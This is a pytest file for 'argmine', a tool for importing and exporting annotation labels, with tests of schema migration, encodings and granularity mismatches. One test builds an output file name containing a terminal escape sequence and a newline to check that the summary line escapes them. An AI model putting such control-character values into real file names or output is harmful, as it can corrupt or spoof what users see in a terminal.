    res = _cli(*args)  # one of six fails: written, with the advice
    assert res.exit_code == 1 and len((tmp_path / "g.jsonl").read_text("utf-8").splitlines()) == 5
    warned = [line for line in res.stderr.splitlines() if "warning" in line]
    assert warned == [
        f"argmine: warning: {path} was exported for schema fire v1; the labels are read with fire2 v1 ({tmp_path / 's.toml'}): "
        "if they belong to another debate, import again with --schema FILE, the schema file whose [schema] id is fire; if fire2 "
        "is fire revised, a theme renamed or removed since is refused (map it with --map OLD=NEW, or OLD= to drop it)",
        "argmine: warning: theme noise is not in schema 'fire2', and the export was made for schema 'fire': if the labels belong "
        "to another debate, import again with --schema FILE, the schema file whose [schema] id is fire; if a schema change "
        "renamed or removed it, --map noise=NEW (--map noise= drops it), one --map per theme (docs/schema.md, \"Changing a schema\")"]
    res = _cli(*args, "--map", "noise=")
    assert res.exit_code == 0 and len((tmp_path / "g.jsonl").read_text("utf-8").splitlines()) == 6


def test_cli_import_map_migrates_renamed_and_removed_themes_in_passes_too(tmp_path):
    from argmine.annotations import load_gold

    r1, r2 = tmp_path / "r1.toml", tmp_path / "r2.toml"
    r1.write_text(ROUND1_TOML, "utf-8")
    r2.write_text(ROUND2_TOML, "utf-8")
    export(UNITS[:2], tmp_path / "ls", "label-studio", schema=load_schema(r1))
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    exported = []
    for n, (task, (a, b)) in enumerate(zip(tasks, [(["smog"], ["smog", "noise"]), (["noise"], ["tradition"])]), 1):
        exported.append({"id": n, "data": task["data"], "annotations": [
            {"id": 100 + n, "completed_by": 1, "result": ls_choice_result(a, "negative")},
            {"id": 200 + n, "completed_by": 2, "result": ls_choice_result(b, "negative")}]})
    path = tmp_path / "export.json"
    path.write_text(json.dumps(exported, ensure_ascii=False), "utf-8")
    args = ["import", path, "--format", "label-studio", "--schema", r2, "-o", tmp_path / "g.jsonl"]
    res = _cli(*args)  # without --map: refused, and import says how to migrate
    assert res.exit_code == 1
    assert ("argmine: warning: themes noise, smog are not in schema 'fire'; if a schema change renamed or removed them, import "
            "again with --map noise=NEW (--map noise= drops it), one --map per theme (docs/schema.md, \"Changing a schema\")"
            ) in res.stderr.splitlines()
    res = _cli(*args, "--map", "smog=pollution", "--map", "noise=", "--map", "dust=pollution")
    assert res.exit_code == 0, res.output
    assert res.stderr.splitlines()[-1].endswith(
        "; mapped (--map): 2 labels smog -> pollution, 2 labels noise dropped, 0 labels dust -> pollution")
    gold = load_gold(tmp_path / "g.jsonl", load_schema(r2))
    assert [(r.themes, r.passes) for r in gold] == [
        (("pollution",), {"label-studio-user-1": {"themes": ("pollution",), "sentiment": "negative"},
                          "label-studio-user-2": {"themes": ("pollution",), "sentiment": "negative"}}),
        (("tradition",), {"label-studio-user-1": {"themes": (), "sentiment": "negative"},
                          "label-studio-user-2": {"themes": ("tradition",), "sentiment": "negative"}})]
    for bad, why in [("smog=polution", "'polution' is not a theme of schema 'fire'"), ("smog", "expected OLD=NEW"),
                     ("negative=safety", "'negative' is not a theme"), ("smog=safety --map smog=pollution", "mapped twice")]:
        res = _cli(*args, *[x for part in bad.split(" --map ") for x in ("--map", part)])
        assert res.exit_code == 2 and why in res.stderr and "Invalid value for '--map'" in res.stderr, (bad, res.output)


@pytest.mark.parametrize("cell", [" fire v1", "fire  v1", "fire\u3000v1", "fire\tv1", "\u00a0fire\u00a0v1 "])
def test_import_of_a_csv_sheet_whose_schema_id_has_stray_white_space_is_no_other_schema(tmp_path, cell):
    # a space typed with a Chinese IME (U+3000), a tab or a no-break space between id and version, or around the id
    path = _sheet_of(tmp_path, [["smog"]] * 6)
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    for r in rows[1:]:
        r[rows[0].index("schema")] = cell
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    r1 = load_schema(tmp_path / "r1.toml")
    result = import_annotations([path], "csv", schema=r1)
    assert result.schemas == {str(path): ("fire", "1")} and result.other_schemas(r1) == {}
    res = _cli("import", path, "--format", "csv", "--schema", tmp_path / "r1.toml", "-o", tmp_path / "g.jsonl")
    assert res.exit_code == 0 and "exported for schema" not in res.stderr, res.stderr


def test_import_of_an_export_whose_schema_id_has_white_space_around_it_is_no_other_schema(tmp_path):
    path = _doccano_of(tmp_path, [["smog"]] * 6)
    records = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    assert records[0]["schema"] == "fire"
    path.write_text("".join(json.dumps({**r, "schema": " fire\u3000"}, ensure_ascii=False) + "\n" for r in records), "utf-8")
    r1 = load_schema(tmp_path / "r1.toml")
    result = import_annotations([path], "doccano", schema=r1)
    assert result.schemas == {str(path): ("fire", "1")} and result.other_schemas(r1) == {}


@pytest.mark.parametrize("labelled", [True, False])
def test_cli_import_summary_escapes_control_characters_in_the_output_name(tmp_path, labelled):
    path = _sheet_of(tmp_path, [["smog"]] * 6)
    if not labelled:  # nobody labelled the sheet: the line says nothing was written
        with open(path, encoding="utf-8-sig", newline="") as f:
            rows = [{**r, "themes": "", "sentiment": ""} for r in csv.DictReader(f)]
        with open(path, "w", encoding="utf-8-sig", newline="") as f:
            w = csv.DictWriter(f, fieldnames=list(rows[0]))
            w.writeheader()
            w.writerows(rows)
    out = tmp_path / "g\x1b[2J\nx.jsonl"
    res = _cli("import", path, "--format", "csv", "--schema", tmp_path / "r1.toml", "-o", out)
    shown = str(out).replace("\x1b", "\\x1b").replace("\n", "\\n")
    summary = [line for line in res.stderr.splitlines() if line.startswith("argmine: ") and not line.startswith("argmine: warning")]
    assert summary == [f"argmine: 6 gold records written to {shown}; 0 records failed, 0 conflicts, 0 unlabelled" if labelled else
                       f"argmine: no gold record imported, nothing written to {shown}; 0 records failed, 0 conflicts, 6 unlabelled"]
    assert "\x1b" not in res.stderr


def test_cli_import_quiet_still_says_nothing_was_written_as_its_help_says(tmp_path):
    export(UNITS, tmp_path / "blank.csv", "csv", predictions=None, schema=load_schema())  # nobody labelled a row yet
    res = _cli("import", tmp_path / "blank.csv", "--format", "csv", "-o", tmp_path / "g.jsonl", "-q")
    assert res.exit_code == 0 and not (tmp_path / "g.jsonl").exists()
    assert f"argmine: no gold record imported, nothing written to {tmp_path / 'g.jsonl'}; 0 records failed" in res.stderr
    help_text = " ".join(_cli("import", "--help").output.split())
    assert ("-q, --quiet No progress bars, and no summary line when records were written and none failed "
            "(a run that writes nothing still says so).") in help_text


def test_csv_sheet_converted_to_gb18030_with_its_bom_is_imported(tmp_path):
    # export writes UTF-8 with a BOM; `iconv -f utf-8 -t gb18030` keeps the BOM, encoded (84 31 95 33)
    export(UNITS[:2], tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    sheet = tmp_path / "gbk.csv"
    sheet.write_bytes((tmp_path / "u.csv").read_bytes().decode("utf-8").encode("gb18030"))
    assert sheet.read_bytes().startswith(b"\x84\x31\x95\x33")
    result = import_annotations([sheet], "csv", units=UNITS)
    assert not result.errors
    assert [(r.id, r.themes, r.sentiment) for r in result.records] == [(u.id, ("privacy",), "negative") for u in UNITS[:2]]


def test_cli_brat_export_again_into_the_folder_leaves_only_the_new_documents_for_brat_and_import(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    for name, text in (("a", "财不外露。"), ("b", "来往已死。")):
        (tmp_path / name).mkdir()
        (tmp_path / name / f"{name}.txt").write_text(text + "\n", "utf-8")
    out = tmp_path / "out"
    for name in ("a", "b"):  # a new labelling round into the same folder
        res = CliRunner().invoke(main, ["export", str(tmp_path / name), "--format", "brat", "--no-predictions", "-q", "-o", str(out)])
        assert res.exit_code == 0 and res.output == "", res.output
    assert sorted(p.name for p in out.iterdir()) == ["annotation.conf", "argmine.json", "b.ann", "b.txt", "visual.conf"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a", "b", "out"]
    (out / "b.ann").write_text("T1\tbloat 0 5\t来往已死。\nA1\tSentiment T1 negative\n", "utf-8")
    res = CliRunner().invoke(main, ["import", str(out), "--format", "brat", "--source", str(tmp_path / "b"), "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 0 and "warning" not in res.output, res.output


def test_import_at_the_other_granularity_counts_every_failed_unit(tmp_path):
    """Clause ids and sentence ids both read doc#n: a record written as sentence p#2 (from clause p#3) is not clause p#2."""
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "p.txt").write_text("支付宝做社交这件事情我觉得是对的，但是我不想让别人看到我的消费记录。这个应用太臃肿了。\n", "utf-8")
    runner = CliRunner()  # 3 clauses: p#1, p#2 (the first sentence), p#3 (the second sentence, p#2 at sentence level)
    res = runner.invoke(main, ["export", str(tmp_path / "p.txt"), "--format", "csv", "--no-predictions", "--granularity", "clause",
                               "-o", str(tmp_path / "c.csv")])
    assert res.exit_code == 0, res.output
    fill_csv(tmp_path / "c.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    res = runner.invoke(main, ["import", str(tmp_path / "c.csv"), "--format", "csv", "--source", str(tmp_path / "p.txt"),
                               "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 1
    assert res.output.splitlines()[-1] == (f"argmine: 1 gold record written to {tmp_path / 'g.jsonl'}; 2 records failed, 0 conflicts, "
                                           "0 unlabelled")  # 1 + 2 = the export's 3 units


def test_import_of_sentences_read_as_clauses_cut_at_a_space_names_the_granularity(tmp_path):
    """The white space a clause cut trims between two clauses is in the sentence's text: still the granularity, not a changed source."""
    text = "支付宝与微信必有一战，战场一定不是熟人社交领域  这两天朋友圈都在讨论这件事情。"
    from argmine.segment import segment

    doc = Document(id="p", text=text)
    sentences, clauses = (segment([doc], granularity=g) for g in ("sentence", "clause"))
    assert [u.text for u in clauses] == ["支付宝与微信必有一战，", "战场一定不是熟人社交领域", "这两天朋友圈都在讨论这件事情。"]
    export(sentences, tmp_path / "s.csv", "csv")
    fill_csv(tmp_path / "s.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    result = import_annotations([tmp_path / "s.csv"], "csv", units=clauses)
    assert [p.reason for p in result.errors] == [
        f"cannot be mapped to a unit: its span p 0..{len(text)} covers units p#1..p#3 of the source; the export was probably cut "
        "into sentences: pass --source-granularity sentence (as given to 'export --granularity')"]


@pytest.mark.parametrize("gold_level, export_level", [("sentence", "clause"), ("clause", "sentence")])
def test_export_only_unlabeled_with_gold_of_the_other_granularity_names_it(tmp_path, gold_level, export_level):
    from click.testing import CliRunner

    from argmine.annotations import GoldRecord, write_gold
    from argmine.cli import main
    from argmine.segment import segment

    text = "支付宝做社交这件事情我觉得是对的，但是我不想让别人看到我的消费记录。这个应用太臃肿了。"
    (tmp_path / "p.txt").write_text(text + "\n", "utf-8")
    write_gold(tmp_path / "g.jsonl", [GoldRecord.from_unit(u, ("privacy",), "negative")
                                      for u in segment([Document(id="p", text=text)], granularity=gold_level)])
    res = CliRunner().invoke(main, ["export", str(tmp_path / "p.txt"), "--format", "csv", "--no-predictions", "--granularity", export_level,
                                    "--only-unlabeled", str(tmp_path / "g.jsonl"), "-o", str(tmp_path / "c.csv")])
    assert res.exit_code == 0, res.output
    lost, first, how, other = ((1, "p#1 p 0..34", "each covers several units", "clauses") if gold_level == "sentence" else
                               (2, "p#1 p 0..17, p#2 p 17..34", "each is part of a unit, cut where a clause ends", "sentences"))
    assert res.stderr.splitlines()[:1] == [  # not 'run argmine realign': realign would leave them as they are
        f"argmine: warning: {lost} of the {lost + 1} records of {tmp_path / 'g.jsonl'} match no unit of their document in the inputs "
        f"(e.g. {first}): {how}, so they were labelled at {gold_level} level and the inputs are cut into {other}; their units "
        f"are exported again: pass --granularity {gold_level} to skip them"]
    assert len(res.stderr.splitlines()) == 2  # that warning and the summary line, no other
